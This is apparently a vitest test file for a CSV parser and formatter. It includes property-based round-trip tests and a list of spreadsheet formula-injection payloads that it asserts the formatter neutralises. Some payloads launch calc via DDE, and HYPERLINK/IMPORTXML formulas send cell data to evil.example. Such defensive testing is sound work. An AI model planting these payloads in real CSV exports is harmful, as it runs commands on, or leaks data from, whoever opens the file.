import * as fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { formatCsv, parseCsv } from './csv.ts'

const cellsOf = (text: string) => parseCsv(text).map(({ cells }) => cells)

test.each([
  [
    'a,b\r\nc,d',
    [
      ['a', 'b'],
      ['c', 'd'],
    ],
  ],
  [
    'a;b\nc;"d;e"',
    [
      ['a', 'b'],
      ['c', 'd;e'],
    ],
  ],
  ['a\tb', [['a', 'b']]],
  [
    '\uFEFFusername,email\na,b',
    [
      ['username', 'email'],
      ['a', 'b'],
    ],
  ],
  ['a,"say ""hi""",c', [['a', 'say "hi"', 'c']]],
  [
    'a,b\n\n,\nc,d\n',
    [
      ['a', 'b'],
      ['c', 'd'],
    ],
  ],
  ['', []],
])('%j is read', (text, cells) => {
  expect(cellsOf(text)).toEqual(cells)
})

test('a line is named by where it begins in the text', () => {
  expect(parseCsv('a,b\n"one\ntwo",x\n\nc,d').map(({ line }) => line)).toEqual([1, 2, 5])
})

test('a quote that does not end is told', () => {
  expect(parseCsv('a,b\nc,"d\ne,f').map(({ isBroken }) => isBroken)).toEqual([false, true])
})

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  ' =1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1,"Error: click here")',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=1+1";=1+1',
  '=1+1\'"',
  '","=1+1',
  'a;=1+1;b',
  'a; =1+1',
  'a;"=1+1;b',
  'a\t@SUM(A1)\tb',
  'a\r\n=1+1\r\nb',
  '";"=1+1";"',
]

/** What a spreadsheet makes of a text, by what separates cells where it is used. */
const cellsBy = (separator: ',' | ';' | '\t', text: string) =>
  Papa.parse<string[]>(text, { delimiter: separator }).data.flat()

const runs = /^[ \t\r\n]*[=+\-@＝＋－＠]/

test.each(payloads)('%j runs nowhere, and is read back as it was', (payload) => {
  const text = formatCsv([
    ['username', 'name', 'email'],
    ['alice', payload, 'alice@meridian.example'],
    [payload, '', payload],
  ])
  for (const separator of [',', ';', '\t'] as const)
    expect(cellsBy(separator, text).filter((cell) => runs.test(cell))).toEqual([])
  // Some readers drop the quotes of a cell that goes on after them.
  expect(text).not.toMatch(/[;\t\r\n][ "]*[=+\-@＝＋－＠]/)
  expect(cellsOf(text).flat()).toEqual([
    'username',
    'name',
    'email',
    'alice',
    payload,
    'alice@meridian.example',
    payload,
    '',
    payload,
  ])
})

const letters = Array.from('ab=+-@＝＋－＠\'",;\t\r\n é ')
const cell = fc.string({ unit: fc.constantFrom(...letters), maxLength: 8 })
// Guessing what separates cells needs more than one, and an empty line is none.
const row = fc.tuple(cell, cell, cell).filter((cells) => cells.some((each) => each !== ''))
const rows = fc.array(row, { minLength: 1, maxLength: 6 })

test('what is written is read back just so', () => {
  fc.assert(
    fc.property(rows, (rows) => {
      const head = ['username', 'email', 'name']
      expect(cellsOf(formatCsv([head, ...rows]))).toEqual([head, ...rows])
    }),
    { numRuns: 5000 },
  )
})

test('no text runs, whatever separates the cells of whoever opens it', () => {
  fc.assert(
    fc.property(rows, fc.constantFrom(',', ';', '\t'), (rows, separator) => {
      expect(cellsBy(separator, formatCsv(rows)).filter((cell) => runs.test(cell))).toEqual([])
    }),
    { numRuns: 5000 },
  )
})
